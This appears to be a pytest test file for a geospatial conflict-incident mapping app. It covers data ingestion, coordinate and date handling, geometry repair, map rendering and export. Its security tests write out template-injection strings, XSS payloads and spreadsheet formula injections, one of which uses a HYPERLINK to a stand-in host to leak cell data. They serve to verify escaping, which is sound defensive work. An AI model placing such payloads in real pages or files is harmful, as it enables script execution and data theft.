def test_s02_coordinate_name_variants_mapped_and_noted():
    for lat, lon in (("Latitude", "Longitude"), ("LAT", "LONG"), ("y", "x")):
        result = read(f"id,date,{lat},{lon}\nT-1,2025-04-03,12.6,-8.0\n".encode(), "v.csv")
        assert result.report.rows_kept == 1
        assert f"column {lat!r} mapped to latitude" in result.report.notes


def test_s03_duplicate_column_names_refused():
    raw = b"id,date,lat,lon,lat\nT-1,2025-04-03,12.6,-8.0,95\n"
    assert list(pd.read_csv(io.BytesIO(raw)).columns)[-1] == "lat.1"  # renamed silently
    with pytest.raises(InputFileError, match=r"has two columns named 'lat' \(columns 3 and 5\)"):
        read(raw, "dup.csv")


def test_s04_duplicate_event_ids_reported_and_not_double_counted():
    raw = (FIX / "duplicates.csv").read_bytes()
    assert pd.read_csv(io.BytesIO(raw))["fatalities"].sum() == 7  # the naive sum
    result = read(raw, "duplicates.csv")
    assert result.incidents["fatalities"].sum() == 4
    (issue,) = [i for i in result.report.issues if i.action == "rejected"]
    assert issue.row == 4 and "repeats the event id of row 2" in issue.reason


def test_s05_acled_2023_schema_accepted_with_a_note():
    result = read((FIX / "acled_2023.csv").read_bytes(), "acled.csv")
    assert result.report.rows_kept == 4
    assert "ACLED export with the 2023+ columns" in result.report.notes


def test_s06_free_text_fatalities_repaired_row_by_row():
    values = ["12 (est.)", "", "unknown"]
    assert pd.to_numeric(pd.Series(values), errors="coerce").isna().all()  # silent NaN
    rows = [
        {"id": f"T-{k}", "date": "2025-04-03", "lat": 12.6, "lon": -8.0, "fatalities": v}
        for k, v in enumerate(values)
    ]
    result = read(csv_bytes(rows), "f.csv")
    assert result.incidents["fatalities"].tolist() == [12, 0, 0]
    assert [i.row for i in result.report.issues if i.column == "fatalities"] == [2, 3, 4]


def test_s07_decimal_comma_parsed_with_a_row_note():
    assert np.isnan(pd.to_numeric(pd.Series(["12,65"]), errors="coerce")[0])
    result = read(b"id;date;lat;lon\nT-1;2025-04-03;12,64932;-8,00034\n", "dc.csv")
    assert result.incidents.geometry.iat[0].equals(shapely.Point(BAMAKO))
    assert any("decimal comma" in i.reason for i in result.report.issues)


def test_s08_long_notes_kept_whole_in_gpkg_and_csv(tmp_path):
    from geo.export.tabular import write_table_atomic

    note = " ".join(["Synthetic note."] * 40)  # 639 characters
    frame = read(one_row_csv(notes=note), "long.csv").incidents
    assert frame["notes"].str.len().iat[0] == len(note)
    with pytest.warns(RuntimeWarning, match="truncated"):
        pyogrio.write_dataframe(frame[["notes", "geometry"]], tmp_path / "x.shp")
    assert len(pyogrio.read_dataframe(tmp_path / "x.shp")["notes"].iat[0]) == 254  # default
    gpkg = write_table_atomic(frame[["event_id", "notes", "geometry"]], tmp_path / "n.gpkg")
    assert pyogrio.read_dataframe(gpkg)["notes"].iat[0] == note
    csv_path = write_table_atomic(frame[["event_id", "notes", "geometry"]], tmp_path / "n.csv")
    assert note in csv_path.read_text(encoding="utf-8-sig")


def test_s09_payload_column_names_are_only_quoted_text():
    raw = b'"{{7*7}}","<script>x</script>",date\n1,2,2025-04-03\n'
    with pytest.raises(InputFileError) as err:
        read(raw, "names.csv")
    assert "'{{7*7}}', '<script>x</script>'" in str(err.value)  # literal, never evaluated
    kept = read(one_row_csv(**{"{{7*7}}": "x"}), "extra.csv").incidents
    assert "{{7*7}}" not in kept.columns  # unknown columns never reach the map


def test_s10_header_only_file_is_a_zero_event_state():
    result = ingest(b"id,date,lat,lon\n", "empty.csv")
    assert (result.report.rows_in, result.report.rows_kept, result.report.usable) == (0, 0, False)
    assert result.incidents.empty and result.incidents.crs == "EPSG:4326"


# --------------------------------------------------------------------------- C: coordinates, CRS


def test_c01_shapefile_without_prj_is_read_as_lonlat_only_when_it_is(tmp_path):
    data = shapefile_zip(points_frame(2), tmp_path, drop=(".prj",))
    result = read(data, "noprj.zip")
    assert result.report.rows_kept == 2
    assert any("no events.prj: the CRS is unknown" in n for n in result.report.notes)
    projected = shapefile_zip(points_frame(2, crs=32629), tmp_path, drop=(".prj",))
    assert read(projected, "utm.zip").report.rows_kept == 0  # metres never read as degrees


def test_c02_utm_coordinates_without_crs_rejected_as_projected():
    assert gpd.points_from_xy([608596.0], [1398638.0], crs=4326).is_valid.all()  # default
    result = read(one_row_csv(lat=1398638.0, lon=608596.0), "utm.csv")
    (issue,) = result.report.issues
    assert issue.action == "rejected" and "projected?" in issue.reason


def test_c03_swapped_lat_lon_detected_and_repaired_with_a_row_issue():
    result = read(one_row_csv(lat=BAMAKO[0], lon=BAMAKO[1]), "swap.csv")
    assert result.incidents.geometry.iat[0].equals(shapely.Point(BAMAKO))
    assert "swapped back" in result.report.issues[0].reason
    data = feature_collection([point(BAMAKO[1], BAMAKO[0])])
    assert read(data, "swap.geojson").incidents.geometry.iat[0].equals(shapely.Point(BAMAKO))


def test_c04_axis_order_known_point_to_a_metre(tmp_path):
    from pyproj import Transformer

    wrong = Transformer.from_crs(4326, 32629).transform(*BAMAKO)  # lon, lat in 4326 order
    assert abs(wrong[0] - 608596) > 1e5  # the default axis order puts Bamako elsewhere
    utm = Transformer.from_crs(4326, 32629, always_xy=True).transform(*BAMAKO)
    data = gpkg_bytes(
        gpd.GeoDataFrame(
            {"id": ["T-1"], "date": ["2025-04-03"]}, geometry=[shapely.Point(utm)], crs=32629
        ),
        tmp_path,
    )
    got = read(data, "utm.gpkg").incidents.geometry.iat[0]
    from pyproj import Geod

    assert Geod(ellps="WGS84").inv(got.x, got.y, *BAMAKO)[2] < 1.0


@pytest.mark.parametrize(("lat", "lon"), [(95.0, -8.0), (12.6, 200.0)])
def test_c05_out_of_range_rows_rejected_with_their_number(lat, lon):
    bad = gpd.GeoSeries([shapely.Point(lon, lat)], crs=4326).to_crs(32629).iat[0]
    assert np.isfinite(bad.x) == (lat < 90)  # the default: POINT (inf inf), or a wrapped point
    (issue,) = read(one_row_csv(lat=lat, lon=lon), "range.csv").report.issues
    assert (issue.row, issue.action) == (2, "rejected") and "is outside" in issue.reason


def test_c06_blank_and_nan_coordinates_excluded_and_counted():
    default = gpd.points_from_xy([np.nan], [3.0])
    assert not default.isna().any() and not default.is_empty.any()  # POINT (NaN 3) passes
    rows = [
        {"id": "T-1", "date": "2025-04-03", "lat": "", "lon": -8.0},
        {"id": "T-2", "date": "2025-04-03", "lat": "nan", "lon": -8.0},
        {"id": "T-3", "date": "2025-04-03", "lat": 12.6, "lon": -8.0},
    ]
    result = read(csv_bytes(rows), "nan.csv")
    assert (result.report.rows_kept, result.report.n_rejected) == (1, 2)


def test_c07_null_island_rejected_and_single_zero_flagged():
    result = read(
        csv_bytes(
            [
                {"id": "T-1", "date": "2025-04-03", "lat": 0, "lon": 0},
                {"id": "T-2", "date": "2025-04-03", "lat": 12.6, "lon": 0},
            ]
        ),
        "zero.csv",
    )
    actions = {i.row: i.action for i in result.report.issues}
    assert actions == {2: "rejected", 3: "flagged"}


def test_c08_antimeridian_polygon_not_moved_to_lon_0():
    ring = [[179, 10], [-179, 10], [-179, 11], [179, 11], [179, 10]]
    result = read(feature_collection([{"type": "Polygon", "coordinates": [ring]}]), "am.geojson")
    assert result.incidents.empty
    assert "crosses the antimeridian" in result.report.issues[0].reason


def test_c09_points_outside_the_area_of_interest_noted():
    result = read(one_row_csv(lat=48.85, lon=2.35, country="France"), "paris.csv")
    assert any("outside the West-Africa box" in n for n in result.report.notes)


def test_c10_imprecise_events_drawn_as_areas_not_pins():
    from layers.incidents import build_incidents

    rows = [
        {"id": "T-1", "date": "2025-04-03", "lat": BAMAKO[1], "lon": BAMAKO[0], "precision": 1},
        {"id": "T-2", "date": "2025-04-03", "lat": KAYES[1], "lon": KAYES[0], "precision": 3},
    ]
    incidents = read(csv_bytes(rows), "prec.csv").incidents
    assert incidents["precise"].tolist() == [True, False]
    group = build_incidents(incidents, name="Incidents")
    (layer,) = [c for c in group._children.values() if type(c).__name__ == "IncidentLayer"]
    assert len(layer.precise) == 1 and len(layer.approx) == 1
    assert layer.approx[0][-1] == 50.0  # a 50 km circle, never a pin


def test_c11_z_and_m_dropped_with_a_note(tmp_path):
    data = feature_collection([{"type": "Point", "coordinates": [*BAMAKO, 312.0]}])
    result = read(data, "z.geojson")
    assert not result.incidents.has_z.any()
    assert "Z/M values dropped from 1 feature (lon/lat kept)" in result.report.notes


def test_c12_geojson_with_a_projected_crs_member_refused(tmp_path):
    crs = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::32629"}}
    data = feature_collection([point(608596.0, 1398638.0)], crs=crs)
    (tmp_path / "p.geojson").write_bytes(data)
    assert pyogrio.read_dataframe(tmp_path / "p.geojson").crs == "EPSG:32629"  # GDAL honours it
    with pytest.raises(InputFileError, match="has a 'crs' member"):
        read(data, "p.geojson")


# --------------------------------------------------------------------------- G: geometry validity


def test_g01_bowtie_repaired_with_make_valid_not_buffer0():
    import common

    from geo.admin import prepare_units

    bowtie = common.bowtie_units()
    assert bowtie.geometry.iat[0].buffer(0).area == pytest.approx(0.5)  # one lobe lost
    repaired = prepare_units(bowtie)
    assert repaired.geometry.iat[0].area == pytest.approx(1.0)  # both lobes
    assert repaired.attrs["repaired"] == ["T"]
    ring = [[-8, 12], [-7, 13], [-7, 12], [-8, 13], [-8, 12]]
    result = read(feature_collection([{"type": "Polygon", "coordinates": [ring]}]), "b.geojson")
    (issue,) = result.report.issues
    assert issue.row == 1 and issue.action == "repaired"
    assert shapely.make_valid(shapely.Polygon(ring)).covers(result.incidents.geometry.iat[0])


def test_g02_unclosed_ring_is_one_rejected_feature_not_a_failed_file(tmp_path):
    ring = [[-8, 12], [-7, 12], [-7, 13], [-8, 13]]
    data = feature_collection([point(*BAMAKO), {"type": "Polygon", "coordinates": [ring]}])
    result = read(data, "open.geojson")
    assert (result.report.rows_kept, result.report.rejected_rows[0].row) == (1, 2)


@pytest.mark.parametrize(
    "ring",
    [
        pytest.param([[-8, 12], [-7, 12], [-8, 12]], id="3 coordinates"),
        pytest.param([[-8, 12], [-7, 12], [-6, 12], [-8, 12]], id="zero area"),
    ],
)
def test_g03_degenerate_rings_are_per_feature_errors(ring):
    result = read(feature_collection([{"type": "Polygon", "coordinates": [ring]}]), "d.geojson")
    assert result.report.n_rejected == 1
    assert "is not a valid polygon" in result.report.issues[0].reason


def test_g04_empty_and_null_geometries_counted_and_listed():
    data = feature_collection([point(*BAMAKO), None, {"type": "Point", "coordinates": []}])
    result = read(data, "e.geojson")
    assert result.report.rows_in == 3 and result.report.rows_kept == 1
    assert [r.row for r in result.report.rejected_rows] == [2, 3]


def test_g05_mixed_geometry_types_split_with_counts():
    line = {"type": "LineString", "coordinates": [[-8, 12], [-7, 12]]}
    poly = {"type": "Polygon", "coordinates": [[[-8, 12], [-7, 12], [-7, 13], [-8, 12]]]}
    result = read(feature_collection([point(*BAMAKO), line, poly]), "mix.geojson")
    actions = [(i.row, i.action) for i in result.report.issues]
    assert actions == [(2, "rejected"), (3, "repaired")]
    assert result.incidents["precise"].tolist() == [True, False]


def test_g06_multipart_units_and_single_multipoints():
    import common

    from geo.admin import assign_admin

    admin2 = common.admin2()
    admin2.loc[admin2["unit_id"] == "A", "geometry"] = shapely.MultiPolygon(
        [shapely.box(*common.SQUARES["A"]), shapely.box(-8.0, 13.0, -7.5, 13.5)]
    )
    admin2.loc[admin2["unit_id"] == "D", "geometry"] = shapely.box(-7.5, 13.0, -7.0, 14.0).union(
        shapely.box(-8.0, 13.5, -7.5, 14.0)
    )
    incidents = common.make_incidents([shapely.Point(-7.75, 13.25), shapely.Point(-8.5, 12.5)])
    out = assign_admin(
        incidents, admin1=common.admin1(), admin2=admin2, countries=common.countries()
    )
    assert out["adm2_id"].tolist() == ["A", "A"]
    one = {"type": "MultiPoint", "coordinates": [list(BAMAKO)]}
    two = {"type": "MultiPoint", "coordinates": [list(BAMAKO), list(KAYES)]}
    result = read(feature_collection([one, two]), "mp.geojson")
    assert [(i.row, i.action) for i in result.report.issues] == [(1, "repaired"), (2, "rejected")]


def test_g07_large_polygon_reduced_to_one_point():
    angles = np.linspace(0, 2 * np.pi, 200_000, endpoint=False)
    ring = np.c_[-8 + 0.5 * np.cos(angles), 12.6 + 0.5 * np.sin(angles)].round(6).tolist()
    result = read(
        feature_collection([{"type": "Polygon", "coordinates": [ring + ring[:1]]}]), "big.geojson"
    )
    assert result.report.rows_kept == 1 and not result.incidents["precise"].iat[0]


def test_g08_collection_with_an_empty_member_does_not_crash():
    gc = {
        "type": "GeometryCollection",
        "geometries": [point(*BAMAKO), {"type": "Point", "coordinates": []}],
    }
    result = read(feature_collection([gc, point(*KAYES)]), "gc.geojson")
    assert (result.report.rows_kept, result.report.n_rejected) == (1, 1)


_GARDEN = [
    point(*BAMAKO),
    {"type": "Point", "coordinates": [*KAYES, 10.0]},
    {"type": "MultiPoint", "coordinates": [list(SEGOU)]},
    {"type": "MultiPoint", "coordinates": []},
    {"type": "Point", "coordinates": []},
    None,
    {"type": "LineString", "coordinates": [list(BAMAKO), list(KAYES)]},
    {"type": "MultiPolygon", "coordinates": [[[[-8, 12], [-7, 12], [-7, 13], [-8, 12]]]]},
    {"type": "GeometryCollection", "geometries": []},
    {"type": "Polygon", "coordinates": []},
]


@pytest.fixture(scope="module")
def context():
    from geo.pipeline import load_context

    return load_context()


def test_g09_garden_through_every_stage(context):
    from geo.hotspots import hex_counts, kde_grid
    from geo.pipeline import Filters, Params, prepare_incidents, run_analysis
    from layers.incidents import build_incidents

    result = ingest(feature_collection(_GARDEN), "garden.geojson")
    rep = result.report
    assert rep.rows_in == len(_GARDEN) == rep.rows_kept + rep.n_rejected
    assigned = prepare_incidents(result.incidents, context)
    window = Filters(start=date(2025, 1, 1), end=date(2025, 12, 31), include_imprecise=True)
    analysis = run_analysis(
        assigned, rep, window, Params(as_of=date(2025, 12, 31)), context=context
    )
    assert analysis.key_figures["incidents"] == rep.rows_kept
    from geo.crs import to_metric

    kde_grid(to_metric(result.incidents), include_imprecise=True)
    hex_counts(result.incidents, include_imprecise=True)
    build_incidents(result.incidents, name="garden")


# --------------------------------------------------------------------------- J: join, aggregation


def test_j01_j02_border_and_outer_edge_points_counted_once():
    import common

    from geo.admin import assign_admin

    names = ["edge_ab", "corner_abcd", "outer_edge_a", "edge_bd"]
    incidents = common.make_incidents(common.point_geoms(names))
    admin2 = common.admin2()
    hits = gpd.sjoin(incidents, admin2, predicate="intersects")
    assert len(hits) > len(incidents)  # the default double-counts borders
    inside = gpd.sjoin(incidents, admin2, predicate="within")
    assert len(inside) < len(incidents)  # and `within` drops them
    out = assign_admin(
        incidents, admin1=common.admin1(), admin2=admin2, countries=common.countries()
    )
    assert out["adm2_id"].tolist() == ["A", "A", "A", "B"]


def test_j04_overlapping_units_detected_and_reported():
    from geo.admin import prepare_units

    units = gpd.GeoDataFrame(
        {"unit_id": ["P", "Q"], "name": ["P (synthetic)", "Q (synthetic)"]},
        geometry=[shapely.box(-9, 12, -8, 13), shapely.box(-8.5, 12, -7.5, 13)],
        crs=4326,
    )
    ((a, b, km2),) = prepare_units(units).attrs["overlaps"]
    assert (a, b) == ("P", "Q") and km2 > 0


def test_j05_empty_filter_result_gives_a_map_without_nan():
    from layers.incidents import build_incidents
    from layers.map import new_map

    empty = read(b"id,date,lat,lon\n", "e.csv").incidents
    assert np.isnan(empty.total_bounds).all()  # what a naive fit_bounds would get
    m = new_map(bounds=empty.total_bounds)
    build_incidents(empty, name="Incidents").add_to(m)
    page = m.get_root().render()
    assert "NaN" not in page and "nan," not in page


def test_j06_layers_in_different_crs_never_mixed():
    import common

    from geo.admin import assign_admin
    from geo.errors import CRSError

    incidents = common.make_incidents(common.point_geoms(["inside_b"]))
    with pytest.raises(CRSError, match=r"convert it with \.to_crs\(4326\)"):
        assign_admin(
            incidents,
            admin1=common.admin1(),
            admin2=common.admin2().to_crs(32629),
            countries=common.countries(),
        )


def test_j07_distances_need_a_metric_crs():
    import common

    from geo.errors import CRSError
    from geo.hotspots import kde_grid

    with pytest.raises(CRSError):
        kde_grid(common.make_incidents(common.point_geoms(["inside_b"])))


# J03 (Σ per unit + unassigned = N, a Hypothesis property) is
# tests/test_admin.py::test_counts_plus_unassigned_equal_n.


# --------------------------------------------------------------------------- T: time


def test_t01_acled_day_first_dates():
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert pd.to_datetime("03-04-2023").month == 3  # default: 4 March
    result = read((FIX / "acled_2023.csv").read_bytes(), "acled.csv")
    assert result.incidents["event_date"].iat[0] == pd.Timestamp("2025-04-03")


def test_t02_t03_mixed_formats_and_impossible_dates_are_row_errors():
    values = ["03-04-2023", "2023-02-30", "13-04-2023", "12 March 2023", "04/03/2023"]
    coerced = pd.to_datetime(pd.Series(values), errors="coerce", format="mixed", dayfirst=False)
    assert coerced.isna().sum() >= 1  # silent NaT
    rows = [
        {
            "event_id_cnty": f"MLI9{k}",
            "event_date": v,
            "event_type": "Riots",
            "latitude": 12.6,
            "longitude": -8.0,
        }
        for k, v in enumerate(values)
    ]
    result = read(csv_bytes(rows), "acled.csv")
    kept = result.incidents["event_date"].dt.strftime("%Y-%m-%d").tolist()
    assert kept == ["2023-04-03", "2023-04-13", "2023-03-12"]
    rejected = {i.row: i.reason for i in result.report.issues if i.action == "rejected"}
    assert set(rejected) == {3, 6}
    assert "not a calendar date" in rejected[3] and "accepted formats" in rejected[6]


def test_t04_zoned_timestamps_normalised_or_noted():
    result = read(one_row_csv(date="2025-04-03T23:30:00-05:00"), "tz.csv")
    assert result.incidents["event_date"].iat[0] == pd.Timestamp("2025-04-04")
    (issue,) = result.report.issues
    assert issue.row == 2 and "UTC date 2025-04-04" in issue.reason


def test_t04_unix_timestamps_rejected_per_row():
    (issue,) = read(one_row_csv(date="1680480000"), "unix.csv").report.issues
    assert issue.action == "rejected" and "accepted formats" in issue.reason


@pytest.mark.parametrize(
    ("precision", "expected"),
    [
        pytest.param("week", "(week precision)", id="week"),
        pytest.param("month", "(month precision)", id="month"),
        pytest.param("year", "(year precision)", id="year"),
    ],
)
def test_t05_coarse_dates_shown_as_approximate(precision, expected):
    import common

    from layers.incidents import build_incidents

    incidents = common.make_incidents(common.point_geoms(["inside_b"]), date_precision=precision)
    group = build_incidents(incidents, name="Incidents")
    (layer,) = [c for c in group._children.values() if type(c).__name__ == "IncidentLayer"]
    assert any(expected in text for text in layer.tables[0])


def test_t06_future_and_very_old_dates_flagged():
    result = read((FIX / "dates_acled.csv").read_bytes(), "dates.csv")
    flagged = {i.row: i.reason for i in result.report.issues if i.action == "flagged"}
    assert "is in the future" in flagged[7] and "before 1989" in flagged[8]


# --------------------------------------------------------------------------- R: rendering

_EXECUTED = ("PWNED", "ZZZ")  # what the template payloads print when they run


def _payload_incidents():
    """Canonical incidents whose every text field carries a payload (SYNTHETIC)."""
    rows = [
        {
            "id": f"R-{k}",
            "date": "2025-04-03",
            "lat": BAMAKO[1] if k % 2 else KAYES[1],
            "lon": BAMAKO[0] if k % 2 else KAYES[0],
            "location": text,
            "actor1": text,
            "type": text,
            "notes": text,
            "url": text,
        }
        for k, text in enumerate(PAYLOADS.values())
    ]
    return read(csv_bytes(rows), "payloads.csv").incidents


def _render(group) -> str:
    from layers.map import new_map

    m = new_map()
    group.add_to(m)
    return m.get_root().render()


def test_r01_r02_r03_templates_in_data_do_not_run_on_the_server():
    import folium
    from jinja2 import TemplateSyntaxError

    default = folium.Map(tiles=None)
    folium.Marker(BAMAKO[::-1], popup=PAYLOADS["jinja_expr"]).add_to(default)
    folium.Marker(BAMAKO[::-1], tooltip=PAYLOADS["jinja_stmt"]).add_to(default)
    page = default.get_root().render()
    assert "PWNED" in page and "ZZZ" in page  # folium's default runs both
    broken = folium.Map(tiles=None)
    folium.Marker(BAMAKO[::-1], popup=PAYLOADS["jinja_raw"]).add_to(broken)
    with pytest.raises(TemplateSyntaxError):
        broken.get_root().render()  # one bad note, no map at all
    from layers.incidents import build_incidents

    ours = _render(build_incidents(_payload_incidents(), name="Incidents"))
    assert not any(marker in ours for marker in _EXECUTED)


def test_r04_to_r07_html_and_script_breakouts_are_entities_on_the_page():
    from layers.incidents import build_incidents

    page = _render(build_incidents(_payload_incidents(), name="Incidents"))
    for raw in (
        "<img src=x onerror",
        "</script><script>window.__pwned",
        "${(window.__pwned",
        "`;window.__pwned",
    ):
        assert raw not in page
    assert "&lt;img src=x onerror=" in page  # shown as text in the popup


def test_r08_payloads_as_labels_and_property_names_stay_text():
    from layers._geojson import GeoJsonLayer, feature_collection
    from layers.safe import safe_properties

    units = gpd.GeoDataFrame(
        {"name": [PAYLOADS["jinja_expr"]], "n": [3]},
        geometry=[shapely.box(-9, 12, -8, 13)],
        crs=4326,
    )
    props = safe_properties(units, {"name": PAYLOADS["jinja_stmt"], "n": "n"})
    label = PAYLOADS["img_onerror"]
    fc = feature_collection(units, {"name": "k", "n": "n"})
    layer = GeoJsonLayer(fc, styles=[{"color": "#333333"}], tooltip_fields=[("k", label)])
    assert props.columns[0] == "&#123;% for i in range(3) %&#125;Z&#123;% endfor %&#125;"
    page = _render(layer)
    assert not any(marker in page for marker in _EXECUTED)
    assert "<img src=x" not in page


# Markdown-rendering Streamlit calls: expressions interpolated into their text, reviewed to
# be our own wording, numbers, dates or fixed labels (never text from a user file). Anything
# new fails R10 until it is shown with st.text/st.dataframe or reviewed and added here.
_REVIEWED_MARKDOWN_ARGS = {
    "list(state.TABS)": "fixed tab labels",
    "line": "ui/about.py: lines of the constant _LIMITS",
    "len(issues)": "a count",
    "hex_summary(analysis.hexes, analysis.params.hex_resolution)": (
        "ui/hotspots.py: a count and a resolution in our own sentence"
    ),
    "len(report.notes)": "a count",
    "attribution_line()": "bundled data credits",
    "title": "ui/chrome.py, ui/routes.py: our own fixed titles",
    "what": "ui/chrome.py: our own wording of what failed",
    "label": "widget labels from fixed tables (LAYERS, FORMATS)",
    "reason": "ui/exports.py: our own reason text",
    "hint": "ui/selection.py: the views' own fixed hint text",
    "'Every category is already chosen.' if every else 'Choose every category again.'": (
        "ui/controls.py: fixed text"
    ),
    "HOTSPOT_HELP": "ui/state.py constant",
    "sites_count_text(len(ranked))": "ui/sites.py: a count",
    "b[0]": "a number (geo.exposure.EXPOSURE_CLASS_BREAKS)",
    "b[1]": "a number (geo.exposure.EXPOSURE_CLASS_BREAKS)",
    "b[2]": "a number (geo.exposure.EXPOSURE_CLASS_BREAKS)",
    "rank_text(row, n_routes)": "ui/routes.py: a rank and our own tie-rule sentence",
    "placeholder": "ui/selection.py: the views' own fixed placeholder text",
    "SHARE_NOTE": "geo.export constant",
    "HOTSPOT_METHODS[method]": "fixed labels",
    "level": "fixed admin level labels",
    "prev_start.date()": "a date",
    "prev_end.date()": "a date",
    "p.segment_km": "a number",
    "p.buffer_km": "a number",
    "p.half_life_days": "a number",
    "p.as_of": "a date",
    "p.site_radius_km": "a number",
    "before": "a date",
    "row['length_km']": "a number",
    "int(row['rank_in_group'])": "a number",
    "n_generic": "a count",
    "message": "ui/access.py: our own fixed messages",
    "prev[0]": "a date",
    "prev[1]": "a date",
    "before if before is not None else 'unknown'": "a count",
    "help": "ui/chrome.py change_metric(): its callers' help text, checked at their call",
    "gistar_summary(analysis.gistar, analysis.params)": "ui/hotspots.py: Gi* counts, parameters",
    "provenance_text(start=f.start, end=f.end, sources=list(analysis.sources), n_events=int("
    "analysis.key_figures.get('incidents', len(analysis.incidents))), left_out=analysis."
    "left_out, as_of=analysis.params.as_of)": "ui/chrome.py: source labels, dates and counts",
}
_MARKDOWN_CALLS = {
    "markdown", "caption", "write", "info", "warning", "error", "success", "title", "header",
    "subheader", "toast", "expander", "tabs", "metric", "button", "download_button",
    "checkbox", "toggle", "radio", "selectbox", "multiselect", "text_input", "popover",
    "change_metric",
}  # fmt: skip


def _ui_files() -> list[Path]:
    return [REPO / "app.py", *sorted((REPO / "ui").glob("*.py"))]


def test_r10_no_raw_html_sinks_in_app_ui_or_layers():
    import ast

    banned_calls = {"st.html", "st.iframe", "folium_static", "folium.Popup", "folium.Tooltip"}
    banned_calls |= {"folium.GeoJsonTooltip", "folium.GeoJsonPopup", "folium.IFrame"}
    banned_calls |= {"folium.Html", "folium.Element", "Popup", "Tooltip", "GeoJsonTooltip"}
    found = []
    for path in [*_ui_files(), *sorted((REPO / "layers").glob("*.py"))]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.keyword) and node.arg in (
                "unsafe_allow_html",
                "unsafe_allow_javascript",
            ):
                found.append(f"{path.name}:{node.value.lineno} {node.arg}")
            if isinstance(node, ast.Call):
                name = ast.unparse(node.func)
                if name in banned_calls or name.endswith(".explore") or "components" in name:
                    found.append(f"{path.name}:{node.lineno} {name}(...)")
    assert found == []


def test_r10_markdown_calls_interpolate_only_reviewed_expressions():
    import ast

    unreviewed = []
    for path in _ui_files():
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            base = ast.unparse(node.func.value)
            if node.func.attr not in _MARKDOWN_CALLS or not base.startswith(
                ("st", "col", "chrome")
            ):
                continue
            args = node.args[:1] + [k.value for k in node.keywords if k.arg in ("help", "label")]
            for arg in args:
                if isinstance(arg, ast.Constant):
                    continue
                parts = (
                    [v.value for v in arg.values if isinstance(v, ast.FormattedValue)]
                    if isinstance(arg, ast.JoinedStr)
                    else [arg]
                )
                for part in parts:
                    while (  # markdown_escape formats our own wording; review what it wraps
                        isinstance(part, ast.Call)
                        and ast.unparse(part.func).split(".")[-1] == "markdown_escape"
                        and part.args
                    ):
                        part = part.args[0]
                    expr = ast.unparse(part)
                    if expr not in _REVIEWED_MARKDOWN_ARGS:
                        unreviewed.append(f"{path.name}:{node.lineno} st.{node.func.attr}: {expr}")
    assert unreviewed == [], "show data with st.text/st.dataframe, or review and list it"


# R09 (markdown image beacon), R11 (payload corpus through the real app in Chromium) and
# R12 (the exported HTML map in Chromium) are in tests/test_security_browser.py.


# --------------------------------------------------------------------------- X: export


@pytest.fixture(scope="module")
def payload_analysis(context):
    from geo.pipeline import Filters, Params, prepare_incidents, run_analysis

    rows = [
        {
            "id": "X-1",
            "date": "2025-04-03",
            "lat": BAMAKO[1],
            "lon": BAMAKO[0],
            "notes": '=HYPERLINK("http://x.example/?"&A1,"click")',
        },
        {
            "id": "X-2",
            "date": "2025-04-04",
            "lat": KAYES[1],
            "lon": KAYES[0],
            "notes": "@SUM(1+1)",
            "actor1": "+1+1",
        },
        {
            "id": "X-3",
            "date": "2025-04-05",
            "lat": SEGOU[1],
            "lon": SEGOU[0],
            "notes": "-2+3",
            "actor1": "=1+1",
        },
    ]
    result = read(csv_bytes(rows), "formulas.csv")
    assigned = prepare_incidents(result.incidents, context)
    window = Filters(start=date(2025, 1, 1), end=date(2025, 4, 30))
    return run_analysis(
        assigned, result.report, window, Params(as_of=date(2025, 4, 30)), context=context
    )


def test_x01_formula_cells_prefixed_numbers_untouched(payload_analysis, tmp_path):
    from geo.export.tabular import export_csv_tables

    raw = pd.DataFrame({"notes": ['=HYPERLINK("http://x")'], "lon": [-6.2157]}).to_csv(index=False)
    assert '\n"=HYPERLINK' in raw  # pandas writes the formula as is
    path = export_csv_tables(payload_analysis, tmp_path / "tables.zip")
    with zipfile.ZipFile(path) as zf:
        raw_csv = zf.read("incidents_used.csv").decode("utf-8-sig")
    table = pd.read_csv(io.StringIO(raw_csv), dtype=str, keep_default_na=False)
    assert set(table["notes"].str[:2]) == {"'=", "'@", "'-"}
    assert set(table["actor1"]) == {"", "'+1+1", "'=1+1"}
    assert table["longitude"].astype(float).round(5).tolist() == [BAMAKO[0], KAYES[0], SEGOU[0]]


def _atomic_script(body: str) -> str:
    return textwrap.dedent(
        """
        import os, signal, sys
        sys.path.insert(0, {repo!r})
        import geo
        from pathlib import Path
        from geo.export.atomic import write_atomic
        dest = Path(sys.argv[1])
        """
    ).format(repo=str(REPO)) + textwrap.dedent(body)


@pytest.mark.parametrize("previous", [None, b"complete earlier export"])
@pytest.mark.parametrize("when", ["mid-write", "before rename"])
def test_x02_kill_9_during_an_export_leaves_nothing_half_written(tmp_path, previous, when):
    dest = tmp_path / "layers.gpkg"
    if previous:
        dest.write_bytes(previous)
    body = """
        def writer(tmp):
            with open(tmp, "wb") as fh:
                fh.write(b"SQLite format 3\\x00" + b"x" * 100_000)
                fh.flush()
                if sys.argv[2] == "mid-write":
                    os.kill(os.getpid(), signal.SIGKILL)
        def verify(tmp):
            if sys.argv[2] == "before rename":
                os.kill(os.getpid(), signal.SIGKILL)
        write_atomic(dest, writer, verify=verify)
    """
    done = subprocess.run(
        [sys.executable, "-c", _atomic_script(body), str(dest), when],
        capture_output=True,
        check=False,
    )
    assert done.returncode == -9
    if previous:
        assert dest.read_bytes() == previous
    else:
        assert not dest.exists()


def test_x03_disk_full_is_a_clear_error_and_leaves_nothing(tmp_path):
    body = """
        import resource
        import geopandas as gpd, shapely
        from geo.errors import ExportError
        from geo.export.tabular import write_table_atomic
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))
        frame = gpd.GeoDataFrame({"notes": ["Synthetic note " * 20] * 2000},
                                 geometry=[shapely.Point(-8, 12.6)] * 2000, crs=4326)
        for suffix in (".gpkg", ".csv"):
            try:
                write_table_atomic(frame, dest.with_suffix(suffix))
                print("written", suffix)
            except ExportError as exc:
                print("ExportError", suffix, exc)
    """
    dest = tmp_path / "out" / "t.gpkg"
    dest.parent.mkdir()
    done = subprocess.run(
        [sys.executable, "-c", _atomic_script(body), str(dest)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert [line.split()[:2] for line in lines] == [
